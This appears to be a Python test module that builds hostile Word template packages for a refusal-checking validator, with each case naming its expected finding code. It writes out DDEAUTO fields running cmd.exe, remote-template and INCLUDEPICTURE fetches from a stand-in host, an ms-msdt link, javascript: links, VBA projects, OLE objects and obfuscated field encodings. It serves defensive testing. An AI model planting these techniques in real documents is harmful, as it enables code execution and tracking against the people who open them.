"""Hostile template packages: each edits the honest template's members, or writes its own zip.

A case says what the refusal must say: one of its codes, the part that is at fault, a word by which
an office colleague finds it, and for what stands in the text a place (第 3 段, 第 2 个表…).
Alternatives are separated by |; EITHER in place of a code: accepted or refused, if only it is
answered, and what is printed from it is clean. The codes follow docs/findings.md: L101 where a Word file can not
be read (or two readers would read two different files), L109 where it carries something that may
not be there, L102 to L108 where the author of the placeholders is mistaken.
"""

from __future__ import annotations

import bz2
import lzma
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, replace

from hostile import rawzip
from hostile.parts import (
    CORE,
    DOCUMENT,
    FONTS,
    FOOTER,
    HEAD,
    MC,
    MS,
    RELS,
    ROOT_RELS,
    SETTINGS,
    STYLES,
    TYPES,
    W14,
    W15,
    WML,
    A,
    Members,
    O,
    R,
    V,
    W,
    add,
    around,
    at_end,
    drawing,
    extension,
    field,
    formatted,
    honest,
    in_footer,
    paragraph,
    paragraph_of,
    png,
    relate,
    run_of,
    setting,
    simple_field,
    swap,
    text,
    zipped,
)

EITHER = "either"

Make = Callable[[Members], Members | bytes | None]
"""Changes the members where they are, or returns others, or the bytes of a whole file."""


@dataclass(frozen=True)
class Package:
    """A template that must be refused, and how."""

    name: str
    make: Make
    code: str
    part: str
    word: str
    placed: bool

    def data(self) -> bytes:
        members = honest()
        made = self.make(members)
        if isinstance(made, bytes):
            return made
        return zipped(members if made is None else made)


CASES: list[Package] = []


def _case(
    name: str,
    make: Make,
    part: str,
    word: str = "",
    *,
    code: str = "L109",
    placed: bool = False,
) -> None:
    CASES.append(Package(name, make, code, part, word, placed))


def hostile(
    part: str, word: str = "", *, code: str = "L109", placed: bool = False
) -> Callable[[Make], Make]:
    """Enter a function under its own name."""

    def enter(make: Make) -> Make:
        name = make.__name__.strip("_").replace("_", "-")
        _case(name, make, part, word, code=code, placed=placed)
        return make

    return enter


# --- fields that run, fetch, ask or tell --------------------------------------------------

_NET = "http://198.51.100.7/x"
_SHARE = r"\\\\198.51.100.7\\share\\x"
_DDE = r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"'


def _block(runs: str) -> Make:
    """The runs in a paragraph of their own at the end of the text."""
    return lambda members: at_end(members, paragraph(runs=runs))


_FIELDS = {
    "dde": r'DDE Excel "C:\\x.xls" r1c1',
    "ddeauto": _DDE,
    "includepicture": f'INCLUDEPICTURE "{_NET}.png" \\d',
    "includetext": f'INCLUDETEXT "{_SHARE}.docx"',
    "link": r'LINK Excel.Sheet.12 "C:\\x.xlsx" r1c1 \a \t',
    "import": f'IMPORT "{_NET}.gif"',
    "database": r'DATABASE \c "DSN=x" \s "select * from t"',
    "macrobutton": "MACROBUTTON Run 点这里",
    "autotext": "AUTOTEXT 落款",
    "autotextlist": r'AUTOTEXTLIST "甲" \s "乙"',
    "include": f'INCLUDE "{_NET}"',
    "embed": "EMBED Package",
    "rd": f'RD "{_SHARE}.docx"',
    "print": r'PRINT 27"&amp;l0O"',
    "gotobutton": "GOTOBUTTON 甲 乙",
    "ask": 'ASK 甲 "请输入口令"',
    "fillin": 'FILLIN "请输入口令"',
    "mergefield": "MERGEFIELD 单位",
    "formtext": "FORMTEXT",
    "addin": "ADDIN EN.CITE",
    "docvariable": "DOCVARIABLE 经办人",
    "docproperty": "DOCPROPERTY Company",
    "username": "USERNAME",
    "filename": r"FILENAME \p",
    "quote": "QUOTE 68 68 69",
    "unknown-field": "EVILFIELD 1",
}
for _name, _code in _FIELDS.items():
    _word = _code.split()[0]
    _case(
        f"field-{_name}",
        _block(field(f" {_code} ")),
        DOCUMENT,
        _word,
        placed=True,
    )

_case("field-formula", _block(field(" =SUM(ABOVE) ")), DOCUMENT, "SUM|公式", placed=True)
for _name, _target in {
    "file": "file:///C:/Windows/System32/calc.exe",
    "share": _SHARE,
    "javascript": "javascript:alert(1)",
}.items():
    _case(
        f"field-hyperlink-to-{_name}",
        _block(field(f' HYPERLINK "{_target}" ', result="甲")),
        DOCUMENT,
        "HYPERLINK|链接",
        placed=True,
    )
_case("field-lower-case", _block(field(f" {_DDE.lower()} ")), DOCUMENT, "ddeauto", placed=True)
_case(
    "field-behind-odd-blanks",
    _block(field(f"\t\u00a0\u3000 \n{_DDE}")),
    DOCUMENT,
    "DDEAUTO",
    placed=True,
)
_case(
    "field-split-over-runs",
    _block(field(" DD", "EA", 'UTO c:\\\\x "y" ')),
    DOCUMENT,
    "DDEAUTO",
    placed=True,
)
_case(
    "field-split-over-paragraphs",
    lambda members: at_end(
        members,
        paragraph(
            runs='<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            "<w:r><w:instrText> DDE</w:instrText></w:r>"
        )
        + paragraph(
            runs="<w:r><w:instrText>AUTO x y </w:instrText></w:r>"
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
            + text("1")
            + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        ),
    ),
    DOCUMENT,
    "DDEAUTO",
    placed=True,
)
_case(
    "field-split-by-a-bookmark-and-a-proof-mark",
    _block(
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r>'
        '<w:proofErr w:type="spellStart"/><w:bookmarkStart w:id="9" w:name="_x"/>'
        "<w:r><w:instrText>EAUTO x y</w:instrText></w:r>"
        '<w:bookmarkEnd w:id="9"/><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    ),
    DOCUMENT,
    "DDEAUTO",
    placed=True,
)
_case(
    "field-in-character-references",
    _block(field(" &#68;&#x44;EAUTO x y ")),
    DOCUMENT,
    "DDEAUTO",
    placed=True,
)
_case(
    "field-in-cdata", _block(field(" <![CDATA[DDEAUTO x y]]> ")), DOCUMENT, "DDEAUTO", placed=True
)
_case(
    "field-simple",
    _block(simple_field(" DDEAUTO c:\\\\x &quot;y&quot; ")),
    DOCUMENT,
    "DDEAUTO",
    placed=True,
)
_case(
    "field-simple-includepicture",
    _block(simple_field(f" INCLUDEPICTURE &quot;{_NET}.png&quot; ")),
    DOCUMENT,
    "INCLUDEPICTURE",
    placed=True,
)
_case(
    "field-within-a-field",
    _block(field(' IF 1 = 1 "', field(" DDEAUTO x y "), '" ')),
    DOCUMENT,
    "DDEAUTO|IF",
    placed=True,
)
_case(
    "field-in-the-result-of-an-honest-one",
    _block(field(" PAGE ", result=field(" DDEAUTO x y "))),
    DOCUMENT,
    "DDEAUTO",
    placed=True,
)
_case(
    "field-whose-name-is-a-field",
    _block(
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + field(" STYLEREF Evil ", result="DDEAUTO")
        + "<w:r><w:instrText> x y </w:instrText></w:r>"
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    ),
    DOCUMENT,
    placed=True,
)
_case(
    "field-without-an-end",
    _block(
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r>'
    ),
    DOCUMENT,
    code="L109|L106",
    placed=True,
)
_case(
    "field-without-a-beginning",
    _block('<w:r><w:fldChar w:fldCharType="end"/></w:r>'),
    DOCUMENT,
    code="L109|L106",
    placed=True,
)
_case(
    "field-in-a-footer",
    lambda members: in_footer(members, field(f" {_DDE} ")),
    FOOTER,
    "DDEAUTO",
)
_case(
    "field-simple-in-a-footer",
    lambda members: in_footer(members, simple_field(" DDEAUTO x y ")),
    FOOTER,
    "DDEAUTO",
)
_case(
    "field-in-a-footer-split",
    lambda members: in_footer(members, field(" INCLUDE", f'PICTURE "{_NET}" ')),
    FOOTER,
    "INCLUDEPICTURE",
)


@hostile("word/header1.xml", "DDEAUTO")
def field_in_a_header(members: Members) -> None:
    _header(members, paragraph(runs=field(f" {_DDE} ")))


@hostile("word/footnotes.xml", "DDEAUTO")
def field_in_a_footnote(members: Members) -> None:
    note = f'<w:footnote w:id="2">{paragraph(runs=field(" DDEAUTO x y "))}</w:footnote>'
    notes = f'{HEAD}<w:footnotes xmlns:w="{W}">{note}</w:footnotes>'
    add(members, "word/footnotes.xml", notes, f"{WML}.footnotes+xml")
    relate(members, "rId60", "footnotes", "footnotes.xml")
    at_end(members, paragraph(runs='<w:r><w:footnoteReference w:id="2"/></w:r>'))


@hostile(DOCUMENT, "DDEAUTO", placed=True)
def field_in_a_table_cell(members: Members) -> None:
    run = run_of(members, "自然人")
    swap(members, DOCUMENT, run, run + field(" DDEAUTO x y ", result=""))


@hostile(DOCUMENT, "域", placed=True)
def field_behind_a_label(members: Members) -> None:
    run = run_of(members, "自然人")
    swap(members, DOCUMENT, run, run + field(' DATE \\@ "yyyy" ', result="1"))


@hostile(DOCUMENT, "域", placed=True)
def field_around_the_width_of_a_cell(members: Members) -> None:
    width = '<w:tcW w:w="690" w:type="dxa"/>'
    around = f'<w:fldSimple w:instr=" PAGE ">{width}</w:fldSimple>'
    swap(members, DOCUMENT, width, around)


@hostile("word/footer", "vanish")
def hidden_text_in_a_footer(members: Members) -> None:
    in_footer(members, "<w:r><w:rPr><w:vanish/></w:rPr><w:t>甲</w:t></w:r>")


@hostile(DOCUMENT, "DDEAUTO")
def field_in_a_text_box(members: Members) -> None:
    box = paragraph(runs=field(" DDEAUTO x y "))
    at_end(members, paragraph(runs=_text_box(box)))


@hostile(DOCUMENT, "DDEAUTO")
def field_in_the_fallback_of_an_alternative(members: Members) -> None:
    at_end(
        members,
        paragraph(
            runs=f'<w:r><mc:AlternateContent xmlns:mc="{MC}"><mc:Choice Requires="w14" '
            f'xmlns:w14="{W14}"><w:t>甲</w:t></mc:Choice><mc:Fallback>'
            '<w:fldChar w:fldCharType="begin"/><w:instrText>DDEAUTO x y</w:instrText>'
            '<w:fldChar w:fldCharType="end"/></mc:Fallback></mc:AlternateContent></w:r>'
        ),
    )


@hostile(DOCUMENT, "DDEAUTO", placed=True)
def field_under_another_prefix(members: Members) -> None:
    at_end(
        members,
        f'<x:p xmlns:x="{W}"><x:fldSimple x:instr=" DDEAUTO x y "><x:r><x:t>1</x:t></x:r>'
        "</x:fldSimple></x:p>",
    )


@hostile(DOCUMENT, "DDEAUTO|del", placed=True)
def field_in_deleted_text(members: Members) -> None:
    at_end(
        members,
        paragraph(
            runs='<w:del w:id="4" w:author="甲"><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            "<w:r><w:delInstrText> DDEAUTO x y </w:delInstrText></w:r>"
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:del>'
        ),
    )


@hostile(DOCUMENT, "fldData", placed=True)
def field_with_data(members: Members) -> None:
    runs = field(" PAGE ").replace(
        '"begin"/>', '"begin"><w:fldData>AAAA</w:fldData></w:fldChar>', 1
    )
    at_end(members, paragraph(runs=runs))


@hostile(DOCUMENT, "ffData|FORMTEXT|entryMacro", placed=True)
def field_with_a_macro_on_entry(members: Members) -> None:
    runs = field(" FORMTEXT ").replace(
        '"begin"/>',
        '"begin"><w:ffData><w:name w:val="x"/><w:enabled/><w:entryMacro w:val="Run"/></w:ffData>'
        "</w:fldChar>",
        1,
    )
    at_end(members, paragraph(runs=runs))


def _header(members: Members, blocks: str) -> None:
    header = f'{HEAD}<w:hdr xmlns:w="{W}" xmlns:r="{R}">{blocks}</w:hdr>'
    add(members, "word/header1.xml", header, f"{WML}.header+xml")
    relate(members, "rId61", "header", "header1.xml")
    swap(
        members,
        DOCUMENT,
        '<w:footerReference w:type="even"',
        '<w:headerReference w:type="default" r:id="rId61"/><w:footerReference w:type="even"',
    )


def _text_box(blocks: str) -> str:
    return (
        f'<w:r><w:pict><v:shape xmlns:v="{V}" id="s1" style="width:90pt;height:20pt"><v:textbox>'
        f"<w:txbxContent>{blocks}</w:txbxContent></v:textbox></v:shape></w:pict></w:r>"
    )


# --- relationships and pictures --------------------------------------------------------------

_EITHER_RELS = f"{RELS}|{DOCUMENT}"


def _picture_from(mode: str, target: str = f"{_NET}.png") -> Make:
    def make(members: Members) -> None:
        relate(members, "rId70", "image", target, mode)
        at_end(members, paragraph(runs=drawing("rId70", blip='r:link="rId70"')))

    return make


_case("picture-from-the-net", _picture_from("External"), _EITHER_RELS, "198.51.100.7|image|图片")
for _name, _mode in {
    "lower-case": "external",
    "capitals": "EXTERNAL",
    "blank-behind": "External ",
    "blank-before": " External",
    "line-break": "&#10;External",
    "unknown": "Elsewhere",
}.items():
    _case(
        f"target-mode-{_name}",
        _picture_from(_mode),
        _EITHER_RELS,
        "198.51.100.7|TargetMode|外部",
    )
_case(
    "picture-from-a-share-without-a-mode",
    _picture_from("", "file://198.51.100.7/share/x.png"),
    _EITHER_RELS,
    "198.51.100.7|image|图片",
)


@hostile(_EITHER_RELS, "198.51.100.7|imagedata|图片")
def vml_picture_from_the_net(members: Members) -> None:
    relate(members, "rId70", "image", f"{_NET}.gif", "External")
    at_end(
        members,
        paragraph(
            runs=f'<w:r><w:pict><v:shape xmlns:v="{V}" id="s1" style="width:1pt;height:1pt">'
            '<v:imagedata r:href="rId70"/></v:shape></w:pict></w:r>'
        ),
    )


@hostile(DOCUMENT, "imagedata|198.51.100.7")
def vml_picture_from_the_net_without_a_relationship(members: Members) -> None:
    at_end(
        members,
        paragraph(
            runs=f'<w:r><w:pict><v:shape xmlns:v="{V}" id="s1" style="width:1pt;height:1pt">'
            f'<v:imagedata src="{_NET}.gif"/></v:shape></w:pict></w:r>'
        ),
    )


@hostile(DOCUMENT, "href|198.51.100.7")
def vml_shape_that_is_a_link(members: Members) -> None:
    at_end(
        members,
        paragraph(
            runs=f'<w:r><w:pict><v:rect xmlns:v="{V}" id="s1" href="file:///C:/x.exe" '
            'style="width:9pt;height:9pt"/></w:pict></w:r>'
        ),
    )


@hostile(DOCUMENT, "fill|198.51.100.7")
def vml_fill_from_the_net(members: Members) -> None:
    at_end(
        members,
        paragraph(
            runs=f'<w:r><w:pict><v:rect xmlns:v="{V}" id="s1" style="width:9pt;height:9pt">'
            f'<v:fill type="frame" src="{_NET}.png"/></v:rect></w:pict></w:r>'
        ),
    )


@hostile("word/_rels/footer2.xml.rels|word/footer2.xml", "198.51.100.7|image|图片")
def picture_from_the_net_in_a_footer(members: Members) -> None:
    relate(members, "rId1", "image", f"{_NET}.png", "External", "word/_rels/footer2.xml.rels")
    in_footer(members, drawing("rId1", blip='r:link="rId1"'))


@hostile("word/_rels/document.xml.RELS|word/document.xml", code="L109|L101")
def relationships_in_capitals(members: Members) -> None:
    _picture_from("External")(members)
    members["word/_rels/document.xml.RELS"] = members.pop(RELS)


@hostile("word/_RELS/footer2.xml.rels|word/footer2.xml", "198.51.100.7|image|图片")
def relationships_in_a_folder_in_capitals(members: Members) -> None:
    relate(members, "rId1", "image", f"{_NET}.png", "External", "word/_RELS/footer2.xml.rels")
    in_footer(members, drawing("rId1", blip='r:link="rId1"'))


@hostile(_EITHER_RELS, code="L109|L101")
def relationship_within_another_element(members: Members) -> None:
    entry = f'<Relationship Id="rId71" Type="{R}/image" Target="{_NET}" TargetMode="External"/>'
    swap(members, RELS, "</Relationships>", f"<Group>{entry}</Group></Relationships>")


@hostile(_EITHER_RELS, code="L109|L101")
def relationship_within_a_relationship(members: Members) -> None:
    entry = f'<Relationship Id="rId71" Type="{R}/image" Target="{_NET}" TargetMode="External"/>'
    swap(
        members,
        RELS,
        'Target="styles.xml"/>',
        f'Target="styles.xml">{entry}</Relationship>',
    )


@hostile(_EITHER_RELS, code="L109|L101")
def relationship_within_an_alternative(members: Members) -> None:
    entry = f'<Relationship Id="rId71" Type="{R}/image" Target="{_NET}" TargetMode="External"/>'
    choice = (
        f'<mc:AlternateContent xmlns:mc="{MC}"><mc:Fallback>{entry}</mc:Fallback>'
        "</mc:AlternateContent>"
    )
    swap(members, RELS, "</Relationships>", f"{choice}</Relationships>")


@hostile(_EITHER_RELS, "rId4", code="L109|L101")
def two_relationships_of_one_id(members: Members) -> None:
    relate(members, "rId4", "footer", "footer2.xml")


_LINKS = {
    "javascript": "javascript:alert(1)",
    "javascript-in-odd-letters": " JaVaScRiPt:alert(1)",
    "vbscript": "vbscript:x",
    "file": "file:///C:/Windows/System32/calc.exe",
    "file-on-a-share": "file://198.51.100.7/share/x.lnk",
    "share": r"\\198.51.100.7\share\x.lnk",
    "path": r"C:\Windows\System32\calc.exe",
    "data": "data:text/html;base64,PHNjcmlwdD4=",
    "word-protocol": "ms-word:ofe|u|http://198.51.100.7/x.docm",
    "search-protocol": "search-ms:query=x&amp;crumb=location:198.51.100.7",
    "ftp": "ftp://198.51.100.7/x",
    "odd-scheme": "ms-msdt:/id PCWDiagnostic",
    "relative": "../x.exe",
}


def _link_to(target: str) -> Make:
    def make(members: Members) -> None:
        relate(members, "rId72", "hyperlink", target, "External")
        at_end(members, paragraph(runs=f'<w:hyperlink r:id="rId72">{text("甲")}</w:hyperlink>'))

    return make


for _name, _target in _LINKS.items():
    _case(
        f"link-to-{_name}",
        _link_to(_target),
        _EITHER_RELS,
        "链接|hyperlink|" + _target.strip()[:8],
    )


@hostile(_EITHER_RELS, "calc.exe|hyperlink|链接")
def picture_that_is_a_link_to_a_program(members: Members) -> None:
    add(members, "word/media/image1.png", png())
    extension(members, "png", "image/png")
    relate(members, "rId70", "image", "media/image1.png")
    relate(members, "rId72", "hyperlink", "file:///C:/Windows/System32/calc.exe", "External")
    click = f'<a:hlinkClick xmlns:a="{A}" r:id="rId72"/>'
    at_end(members, paragraph(runs=drawing("rId70", inner=click)))


@hostile(_EITHER_RELS, "sound|wav|声音|media")
def picture_with_a_sound(members: Members) -> None:
    add(members, "word/media/image1.png", png())
    add(members, "word/media/audio1.wav", b"RIFF\0\0\0\0WAVE", "audio/wav")
    extension(members, "png", "image/png")
    relate(members, "rId70", "image", "media/image1.png")
    relate(members, "rId73", f"{R}/audio", "media/audio1.wav")
    click = (
        f'<a:hlinkClick xmlns:a="{A}" r:id=""><a:snd r:embed="rId73" name="x.wav"/></a:hlinkClick>'
    )
    at_end(members, paragraph(runs=drawing("rId70", inner=click)))


@hostile("word/media/image1.svg", "svg")
def picture_in_svg(members: Members) -> None:
    svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    add(members, "word/media/image1.svg", svg, "image/svg+xml")
    relate(members, "rId70", "image", "media/image1.svg")
    at_end(members, paragraph(runs=drawing("rId70")))


@hostile("word/media/image1.png", code="L109|L101")
def program_that_is_called_a_picture(members: Members) -> None:
    add(members, "word/media/image1.png", b"MZ\x90\0" + bytes(400))
    extension(members, "png", "image/png")
    relate(members, "rId70", "image", "media/image1.png")
    at_end(members, paragraph(runs=drawing("rId70")))


@hostile("word/media/image1.png", code="L109|L101")
def ole_file_that_is_called_a_picture(members: Members) -> None:
    add(members, "word/media/image1.png", _OLE)
    extension(members, "png", "image/png")
    relate(members, "rId70", "image", "media/image1.png")
    at_end(members, paragraph(runs=drawing("rId70")))


@hostile(f"{SETTINGS}|word/_rels/settings.xml.rels", "mailMerge|邮件合并|x.xlsx")
def mail_merge_with_its_connection(members: Members) -> None:
    rels = "word/_rels/settings.xml.rels"
    relate(members, "rId1", "mailMergeSource", "file:///C:/x.xlsx", "External", rels)
    setting(
        members,
        '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="native"/>'
        '<w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=C:\\x.xlsx"/>'
        f'<w:query w:val="SELECT * FROM t"/><w:dataSource xmlns:r="{R}" r:id="rId1"/>'
        "</w:mailMerge>",
        "<w:defaultTabStop",
    )


@hostile(SETTINGS, "mailMerge|邮件合并")
def mail_merge_without_a_relationship(members: Members) -> None:
    setting(
        members,
        '<w:mailMerge><w:mainDocumentType w:val="email"/><w:dataType w:val="odbc"/>'
        '<w:connectString w:val="DSN=x;PWD=y"/><w:query w:val="SELECT 1"/></w:mailMerge>',
        "<w:defaultTabStop",
    )


@hostile(f"{SETTINGS}|word/_rels/settings.xml.rels", "attachedTemplate|附加模板|198.51.100.7")
def attached_template_from_the_net(members: Members) -> None:
    rels = "word/_rels/settings.xml.rels"
    relate(members, "rId1", "attachedTemplate", f"{_NET}.dotm", "External", rels)
    setting(members, f'<w:attachedTemplate xmlns:r="{R}" r:id="rId1"/>', "<w:defaultTabStop")


@hostile(
    f"{SETTINGS}|word/_rels/settings.xml.rels|word/attached.dotx", "attachedTemplate|附加模板|dotx"
)
def attached_template_inside_the_package(members: Members) -> None:
    add(members, "word/attached.dotx", zipped(honest()), "application/octet-stream")
    rels = "word/_rels/settings.xml.rels"
    relate(members, "rId1", "attachedTemplate", "attached.dotx", "", rels)
    setting(members, f'<w:attachedTemplate xmlns:r="{R}" r:id="rId1"/>', "<w:defaultTabStop")


@hostile(f"{SETTINGS}|word/_rels/settings.xml.rels", "attachedTemplate|附加模板|198.51.100.7")
def attached_template_by_a_strict_relationship(members: Members) -> None:
    strict = "http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate"
    rels = "word/_rels/settings.xml.rels"
    relate(members, "rId1", strict, f"{_NET}.dotm", "External", rels)
    setting(members, f'<w:attachedTemplate xmlns:r="{R}" r:id="rId1"/>', "<w:defaultTabStop")


@hostile(_EITHER_RELS, "subDoc|198.51.100.7")
def sub_document(members: Members) -> None:
    relate(members, "rId74", "subDocument", f"{_NET}.docx", "External")
    at_end(members, paragraph(runs='<w:subDoc r:id="rId74"/>'))


@hostile("word/webSettings.xml|word/_rels/webSettings.xml.rels", "frame|198.51.100.7")
def frameset_from_the_net(members: Members) -> None:
    rels = "word/_rels/webSettings.xml.rels"
    web = (
        f'{HEAD}<w:webSettings xmlns:w="{W}" xmlns:r="{R}"><w:frameset><w:frame>'
        '<w:sourceFileName r:id="rId1"/></w:frame></w:frameset></w:webSettings>'
    )
    add(members, "word/webSettings.xml", web, f"{WML}.webSettings+xml")
    relate(members, "rId75", "webSettings", "webSettings.xml")
    relate(members, "rId1", "frame", f"{_NET}.htm", "External", rels)


@hostile(f"{SETTINGS}|word/_rels/settings.xml.rels", "transform|saveThroughXslt|198.51.100.7")
def transform_when_saved(members: Members) -> None:
    relate(members, "rId1", "transform", f"{_NET}.xsl", "External", "word/_rels/settings.xml.rels")
    setting(
        members,
        f'<w:saveThroughXslt xmlns:r="{R}" r:id="rId1"/>',
        "<w:characterSpacingControl",
    )


@hostile(f"{SETTINGS}|word/_rels/settings.xml.rels", "attachedSchema|schema")
def attached_schema(members: Members) -> None:
    setting(members, '<w:attachedSchema w:val="urn:x"/>')


@hostile(_EITHER_RELS, "example.org")
def relationship_of_an_unknown_type(members: Members) -> None:
    add(members, "word/x.xml", f"{HEAD}<x/>", "application/xml")
    relate(members, "rId76", "http://example.org/payload", "x.xml")


@hostile(f"{_EITHER_RELS}|evil.txt", "evil.txt", code="L109|L101")
def relationship_out_of_the_package(members: Members) -> None:
    relate(members, "rId76", "image", "../../../evil.txt")


@hostile(f"{_EITHER_RELS}|word/nothing.xml", "nothing", code="L109|L101")
def relationship_to_nothing(members: Members) -> None:
    relate(members, "rId76", "header", "nothing.xml")
    swap(
        members,
        DOCUMENT,
        '<w:footerReference w:type="even"',
        '<w:headerReference w:type="default" r:id="rId76"/><w:footerReference w:type="even"',
    )


@hostile(_EITHER_RELS, "hta|image|图片")
def picture_whose_target_is_a_program(members: Members) -> None:
    add(members, "word/media/x.hta", "<script/>", "image/png")
    relate(members, "rId70", "image", "media/x.hta")
    at_end(members, paragraph(runs=drawing("rId70")))


@hostile(f"{ROOT_RELS}|_rels", "198.51.100.7|thumbnail|外部")
def package_relationship_to_the_net(members: Members) -> None:
    kind = "http://schemas.openxmlformats.org/package/2006/relationships/metadata/thumbnail"
    relate(members, "rId9", kind, f"{_NET}.png", "External", ROOT_RELS)


# --- parts that may not be there --------------------------------------------------------------

_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
_VBA_TYPE = "application/vnd.ms-office.vbaProject"
_VBA_REL = f"{MS}/2006/relationships/vbaProject"
_OLE_TYPE = "application/vnd.openxmlformats-officedocument.oleObject"


def _chunk(name: str, data: bytes | str, content_type: str) -> Make:
    def make(members: Members) -> None:
        add(members, name, data, content_type)
        relate(members, "rId80", "aFChunk", name.removeprefix("word/"))
        at_end(members, '<w:altChunk r:id="rId80"/>')

    return make


_HTML = "<html><body><img src='http://198.51.100.7/x.png'></body></html>"
for _name, (_file, _content, _type) in {
    "html": ("word/x.htm", _HTML, "text/html"),
    "xhtml": ("word/x.xhtml", _HTML, "application/xhtml+xml"),
    "mht": ("word/x.mht", f"MIME-Version: 1.0\n\n{_HTML}", "message/rfc822"),
    "rtf": ("word/x.rtf", r"{\rtf1\ansi x}", "application/rtf"),
}.items():
    _case(
        f"chunk-of-{_name}",
        _chunk(_file, _content, _type),
        f"{DOCUMENT}|{RELS}|{_file}",
        "altChunk|aFChunk|" + _file,
    )


@hostile(f"{DOCUMENT}|{RELS}|word/afchunk.docx", "altChunk|aFChunk|afchunk.docx")
def chunk_of_a_document(members: Members) -> None:
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    _chunk("word/afchunk.docx", zipped(honest()), main)(members)


@hostile(f"{RELS}|{DOCUMENT}|word/x.htm", "aFChunk|x.htm")
def chunk_that_the_text_does_not_mention(members: Members) -> None:
    add(members, "word/x.htm", _HTML, "text/html")
    relate(members, "rId80", "aFChunk", "x.htm")


@hostile(DOCUMENT, "altChunk", placed=True)
def chunk_under_another_prefix(members: Members) -> None:
    add(members, "word/x.xml", f"{HEAD}<html/>", "application/xml")
    at_end(members, f'<q:altChunk xmlns:q="{W}" r:id="rId1"/>')


@hostile(DOCUMENT, "altChunk")
def chunk_in_content_to_be_processed(members: Members) -> None:
    swap(
        members,
        DOCUMENT,
        "<w:document ",
        f'<w:document xmlns:mc="{MC}" xmlns:z="urn:z" mc:Ignorable="z" mc:ProcessContent="z:z" ',
    )
    at_end(members, '<z:z><w:altChunk r:id="rId1"/></z:z>')


def _macro(name: str, content_type: str, kind: str = _VBA_REL) -> Make:
    def make(members: Members) -> None:
        add(members, name, _OLE, content_type)
        relate(members, "rId81", kind, name.removeprefix("word/"))

    return make


for _name, (_file, _type, _kind) in {
    "plain": ("word/vbaProject.bin", _VBA_TYPE, _VBA_REL),
    "in-capitals": ("word/VBAPROJECT.BIN", _VBA_TYPE.upper(), _VBA_REL),
    "under-another-name": ("word/data.bin", _VBA_TYPE, _VBA_REL),
    "of-another-content-type": ("word/vbaProject.bin", "application/octet-stream", _VBA_REL),
    "by-an-honest-relationship": ("word/vbaProject.bin", _VBA_TYPE, f"{R}/image"),
    "called-xml": ("word/vba.xml", _VBA_TYPE, _VBA_REL),
}.items():
    _case(
        f"macro-{_name}",
        _macro(_file, _type, _kind),
        f"{_file}|{_EITHER_RELS}",
        "vba|宏|data.bin",
        code="L109|L101" if _file.endswith(".xml") else "L109",
    )


@hostile("word/vbaProject.bin", "vba|宏")
def macro_that_nothing_mentions(members: Members) -> None:
    members["word/vbaProject.bin"] = _OLE


@hostile("word/vbaData.xml", "vba|宏")
def macro_data(members: Members) -> None:
    data = f'{HEAD}<wne:vbaSuppData xmlns:wne="{MS}/word/2006/wordml"/>'
    add(members, "word/vbaData.xml", data, "application/vnd.ms-word.vbaData+xml")


def _main_type(content_type: str) -> Make:
    def make(members: Members) -> None:
        swap(members, TYPES, f"{WML}.document.main+xml", content_type)

    return make


for _name, _type in {
    "with-macros": "application/vnd.ms-word.document.macroEnabled.main+xml",
    "template-with-macros": "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
    "in-capitals-with-macros": "APPLICATION/VND.MS-WORD.DOCUMENT.MACROENABLED.MAIN+XML",
    "nothing": "application/octet-stream",
}.items():
    _case(
        f"main-part-type-{_name}",
        _main_type(_type),
        f"{TYPES}|{DOCUMENT}",
        "",
        code="L109|L101",
    )


def _object(members: Members, rid: str, kind: str = "Embed") -> None:
    at_end(
        members,
        paragraph(
            runs=f'<w:r><w:object w:dxaOrig="1440" w:dyaOrig="1440"><v:shape xmlns:v="{V}" '
            'id="_x0000_i1025" style="width:72pt;height:72pt"/>'
            f'<o:OLEObject xmlns:o="{O}" Type="{kind}" ProgID="Package" ShapeID="_x0000_i1025" '
            f'DrawAspect="Content" ObjectID="_1" r:id="{rid}"/></w:object></w:r>'
        ),
    )


for _name, (_file, _type) in {
    "plain": ("word/embeddings/oleObject1.bin", _OLE_TYPE),
    "in-another-case": (
        "word/Embeddings/OLEOBJECT1.BIN",
        "Application/VND.openxmlformats-officedocument.OLEOBJECT",
    ),
    "under-another-name": ("word/media/image9.dat", "application/octet-stream"),
}.items():

    def _embed(members: Members, file: str = _file, content_type: str = _type) -> None:
        add(members, file, _OLE, content_type)
        relate(members, "rId82", "oleObject", file.removeprefix("word/"))
        _object(members, "rId82")

    _case(f"ole-{_name}", _embed, f"{_file}|{_EITHER_RELS}", "OLE|object|embed|对象|image9")


@hostile(f"{_EITHER_RELS}", "OLE|object|对象|198.51.100.7")
def ole_link_to_the_net(members: Members) -> None:
    relate(members, "rId82", "oleObject", f"{_NET}.xlsx", "External")
    _object(members, "rId82", "Link")


@hostile(f"word/embeddings/x.xlsx|{_EITHER_RELS}", "package|xlsx|object|对象")
def embedded_workbook(members: Members) -> None:
    add(members, "word/embeddings/x.xlsx", b"PK\x05\x06" + bytes(18))
    extension(members, "xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    relate(members, "rId82", "package", "embeddings/x.xlsx")
    _object(members, "rId82")


@hostile(DOCUMENT, "object|对象", placed=True)
def object_without_a_part(members: Members) -> None:
    at_end(members, paragraph(runs="<w:r><w:object/></w:r>"))


@hostile(f"word/charts/chart1.xml|{_EITHER_RELS}", "chart|图表")
def chart_with_its_workbook(members: Members) -> None:
